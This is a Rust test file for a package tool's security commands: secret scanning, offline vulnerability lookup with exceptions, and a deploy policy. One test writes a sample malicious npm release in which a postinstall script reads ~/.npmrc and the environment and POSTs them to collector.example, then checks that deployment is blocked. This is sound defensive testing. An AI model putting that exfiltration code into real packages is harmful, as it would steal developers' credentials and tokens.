//! Scanning from the command line: what scripts rely on, and an attack on an example project that the default policy stops.

use std::io::Write as _;

use serde_json::{Value, json};

use crate::cli::Pak;

const CLEAN: &str = "
-- package.json --
{\"name\": \"pak-test-colours\", \"version\": \"1.0.0\", \"license\": \"MIT\", \"main\": \"index.js\"}
-- index.js --
exports.red = (text) => `\\u001b[31m${text}\\u001b[39m`;
-- LICENSE --
MIT
-- README.md --
Colours.
-- pak.toml --
[project]
environment = \"sandbox\"
";

/// A GitHub token of the right form that nobody was ever given; put together here, so that no file holds one.
pub(crate) fn token() -> String {
    // The last six characters are a checksum over the others: `pak` knows those that cannot be real.
    let body = "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5";
    let checksum = body.bytes().fold(0xffff_ffff_u32, |crc, byte| {
        (0..8).fold(crc ^ u32::from(byte), |crc, _| (crc >> 1) ^ (0xedb8_8320 & (crc & 1).wrapping_neg()))
    });
    let digits = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
    let mut rest = u64::from(!checksum);
    let mut text = [b'0'; 6];
    for place in text.iter_mut().rev() {
        *place = digits[usize::try_from(rest % 62).unwrap()];
        rest /= 62;
    }
    ["gh", "p_", body, std::str::from_utf8(&text).unwrap()].concat()
}

#[test]
fn a_secret_is_found_written_to_a_file_and_never_shown() {
    let pak = Pak::of(CLEAN);
    let token = token();
    pak.folder.write("config/deploy.env", format!("GITHUB_TOKEN={token}\n"));
    for command in ["scan . --format sarif --output report", "security secrets . --format sarif --output report"] {
        let output = pak.run(command);
        assert_eq!(output.code, Some(3), "{output}");
        let report = pak.folder.read("report");
        let sarif: Value = serde_json::from_str(&report).unwrap();
        let location = &sarif["runs"][0]["results"][0]["locations"][0]["physicalLocation"];
        assert!(location["artifactLocation"]["uri"].as_str().unwrap().ends_with("config/deploy.env"), "{location}");
        assert_eq!(location["region"]["startLine"], 1);
        assert!(!report.contains(&token) && !output.to_string().contains(&token));
    }
}

#[test]
fn vulnerabilities_come_from_an_imported_database_in_the_form_that_scripts_read() {
    let pak = Pak::of(CLEAN);
    let lock = json!({"name": "pak-test-colours", "version": "1.0.0", "lockfileVersion": 3, "packages": {
        "": {"name": "pak-test-colours", "version": "1.0.0", "dependencies": {"deep": "1.2.3"}},
        "node_modules/deep": {"version": "1.2.3", "resolved": "https://npm.invalid/deep/-/deep-1.2.3.tgz", "license": "MIT"}}});
    pak.folder.write("app/package-lock.json", lock.to_string());
    let record = json!({"id": "GHSA-test-0001", "modified": "2026-01-01T00:00:00Z", "aliases": ["CVE-2026-0001"],
        "summary": "Prototype pollution", "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"}],
        "affected": [{"package": {"ecosystem": "npm", "name": "deep"},
            "ranges": [{"type": "SEMVER", "events": [{"introduced": "0"}, {"fixed": "1.3.0"}]}]}]});
    let mut file = std::fs::File::create(pak.folder.join("osv.jsonl")).unwrap();
    writeln!(file, "{record}").unwrap();
    pak.ok("security database import osv.jsonl");
    let output = pak.run("security vulnerabilities . --offline --format json --output found.json");
    assert_eq!(output.code, Some(3), "{output}");
    let report: Value = serde_json::from_str(&pak.folder.read("found.json")).unwrap();
    let found = &report["findings"][0];
    for (field, value) in
        [("path", "app/package-lock.json"), ("package", "deep"), ("version", "1.2.3"), ("fixed_in", "1.3.0")]
    {
        assert_eq!(found[field], value, "{found}");
    }
    assert_eq!((&found["id"], &found["aliases"][0]), (&json!("GHSA-test-0001"), &json!("CVE-2026-0001")));

    // Accepted for a time, by its other name, with a reason and an owner.
    let accepted =
        "\n[[security.exceptions]]\nid = \"CVE-2026-0001\"\nreason = \"not reachable\"\nowner = \"ada@example.org\"\n";
    pak.folder.write("pak.toml", format!("{}{accepted}", pak.folder.read("pak.toml")));
    pak.ok("security vulnerabilities . --offline --format json --output found.json");
    let explained = pak.ok("security explain found.json CVE-2026-0001");
    assert!(explained.contains("exception 1 of pak.toml: allow"), "{explained}");
}

#[test]
fn a_worm_in_a_patch_release_is_stopped_before_anything_is_sent() {
    let pak = Pak::of(CLEAN);
    pak.ok("deploy");
    // What stolen releases look like: a patch version, an install script, code that takes tokens and sends them.
    pak.folder.write(
        "package.json",
        json!({"name": "pak-test-colours", "version": "1.0.1", "license": "MIT", "main": "index.js",
            "scripts": {"postinstall": "node bundle.js"}})
        .to_string(),
    );
    let parts = [
        "const fs = require('fs'), os = require('os'), https = require('https');\n",
        "const rc = fs.readFileSync(os.homedir() + '/.npm",
        "rc', 'utf8');\n",
        "const all = JSON.stringify({ env: process.",
        "env, rc });\n",
        "https.request({ host: 'collector.example', method: 'POST' }).end(Buffer.from(all).toString('base64'));\n",
    ];
    pak.folder.write("bundle.js", parts.concat());
    let stopped = pak.run("deploy");
    assert_eq!(stopped.code, Some(3), "{stopped}");
    for said in ["nothing was sent", "bundle.js", "postinstall", "pak::security::denied"] {
        assert!(stopped.stderr.contains(said), "{said} is not said:\n{stopped}");
    }
    let again = pak.run("deploy --approve 0123456789abcdef");
    assert_eq!(again.code, Some(3), "what is denied cannot be approved: {again}");

    // The maintainer's own next release goes out.
    std::fs::remove_file(pak.folder.join("bundle.js")).unwrap();
    pak.folder.write(
        "package.json",
        r#"{"name": "pak-test-colours", "version": "1.0.1", "license": "MIT", "main": "index.js"}"#,
    );
    pak.ok("deploy");
}

#[test]
fn the_exact_bytes_are_scanned_and_a_secret_in_them_blocks_the_plan() {
    let pak = Pak::of(CLEAN);
    pak.folder.write("index.js", format!("exports.token = '{}';\n", token()));
    let output = pak.run("plan");
    assert_eq!(output.code, Some(3), "{output}");
    assert!(output.to_string().contains("pak-test-colours-1.0.0.tgz!/package/index.js"), "{output}");
    assert!(!output.to_string().contains(&token()));
}
